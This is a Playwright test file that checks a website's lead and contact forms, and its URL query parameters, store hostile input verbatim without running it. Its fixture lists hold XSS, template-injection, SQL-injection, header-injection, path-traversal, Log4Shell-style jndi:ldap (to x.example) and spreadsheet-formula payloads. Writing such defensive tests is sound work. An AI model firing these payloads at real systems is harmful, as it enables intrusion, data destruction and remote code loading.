/**
 * A visitor types, or follows a link with, text that is meant to do harm: it is stored word for word, and
 * none of it runs. `tests/backend/hostile.test.ts` sends hostile requests.
 */
import type { Page } from '@playwright/test';
import { contact } from '../../src/content/contact.ts';
import { expect, FAILED_REQUEST, openPage, phone, test } from './helpers/fixtures.ts';
import { fillLeadForm, forms, openFilled } from './helpers/forms.ts';

/** Set when any part of a hostile text runs. */
const RAN = 'ranHostileText';

/** Each is typed into one form. An application goes through the same code. */
const texts = {
  lead: [
    `<script>window.${RAN}=1</script>`,
    '\u202egpj.exe\u202c \u2066\u2067isolated\u2069',
    `{{constructor.constructor('window.${RAN}=1')()}}`,
    'zero\u200bwidth\u200djoined 👩🏽‍🔬 𝕯𝖆𝖓𝖆',
  ],
  contact: [
    `"><img src=x onerror="window.${RAN}=1">`,
    'Zalgo ȩ̷̛̙͙̪́̓̈́ %00%0d%0aSet-Cookie: a=b',
    "'; drop table affiliate_leads; --",
    '</textarea></form><form action=https://x.example>',
    `javascript:window.${RAN}=1`,
    '../../etc/passwd ${jndi:ldap://x.example/a}',
    '=HYPERLINK("https://x.example","x")',
    '__proto__ null -1e308',
  ],
} as const;

const { labels } = contact.form;

/** The fields of each form that take any text, by label, with the columns in which they are stored. */
const fields = [
  { form: forms.lead, hostile: texts.lead, columns: { 'Full name': 'name', 'Business name': 'business_name' } },
  {
    form: forms.contact,
    hostile: texts.contact,
    columns: {
      [labels.firstName]: 'first_name',
      [labels.lastName]: 'last_name',
      [labels.businessType]: 'business_type',
      [labels.message]: 'message',
    },
  },
] as const;

test.use({ ...phone, expectedErrors: FAILED_REQUEST });

const expectNothingRan = async (page: Page) => expect(await page.evaluate((name) => name in window, RAN)).toBe(false);

for (const { form, hostile, columns } of fields) {
  const entries = Object.entries<string>(columns);

  test(`${form.id}: hostile texts are stored word for word, and none of them runs`, async ({ visit }) => {
    const { page, backend } = visit;
    for (let first = 0; first < hostile.length; first += entries.length) {
      const email = visit.email.replace('@', `-${first}@`);
      const filled = await openFilled(form, { ...visit, email });
      const typed = entries.map(([label, column], index) => ({ label, column, text: hostile[first + index] ?? '' }));
      for (const { label, text } of typed) await page.getByRole('textbox', { name: label }).fill(text);
      await filled.submit.click();
      await filled.expectThanks();
      await expectNothingRan(page);
      const [row] = await backend.rows(form.table, email);
      for (const { column, text } of typed) expect(row?.[column]).toBe(text);
    }
  });
}

test('every query parameter that the site reads accepts any value: nothing runs, no page breaks, no lead is lost', async ({
  page,
  backend,
  email,
}) => {
  const parameters = ['fpr', 'utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content', '__proto__', 'now', 'id'];
  // The last ones are malformed.
  const fragments = [encodeURIComponent(texts.contact[0]), '%00', '100%'];
  const values = Object.values(texts).flat();
  const addresses = ['/', '/booking-dr', '/ty-demo', '/booking-demo', '/faq', '/pepprac'];
  for (const [first, path] of addresses.entries()) {
    const valueOf = (index: number) => encodeURIComponent(`${values[(first + index) % values.length]}\u0000${'x'.repeat(300)}`);
    const query = parameters.map((name, index) => `${name}=${valueOf(index)}`).join('&');
    await openPage(page, `${path}?${query}&fpr=%E0%A4%A&%00=%ff#${fragments[first % fragments.length]}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect.poll(() => page.evaluate(() => sessionStorage.getItem('session'))).not.toBeNull();
    await expectNothingRan(page);
  }
  const { submit, expectThanks } = await fillLeadForm(page, email);
  await submit.click();
  await expectThanks();
  expect(await backend.leads(email)).toHaveLength(1);
});
